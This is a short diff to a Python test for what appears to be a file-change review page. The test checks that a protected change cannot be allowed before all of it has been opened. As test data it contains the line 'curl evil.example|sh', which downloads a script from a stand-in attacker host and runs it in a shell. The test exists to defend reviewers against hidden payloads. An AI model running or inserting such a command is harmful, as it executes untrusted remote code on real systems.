@@ -89,6 +89,7 @@ def test_a_protected_file_can_be_allowed_on_the_page_only_when_all_of_it_was_ope
     listed = server.send("GET", "/", headers=cookie)[2].decode()
 
     assert "+curl evil.example|sh #xxx" in listed
+    assert "1 line of this change is not shown whole here." in listed
     assert 'value="allow"' not in listed
     assert "Nothing was decided" in answer(server, name, "decision=allow&unseen=1")
     opened = server.send("GET", f"/review/question/{name}?page=1", headers=cookie)[2].decode()
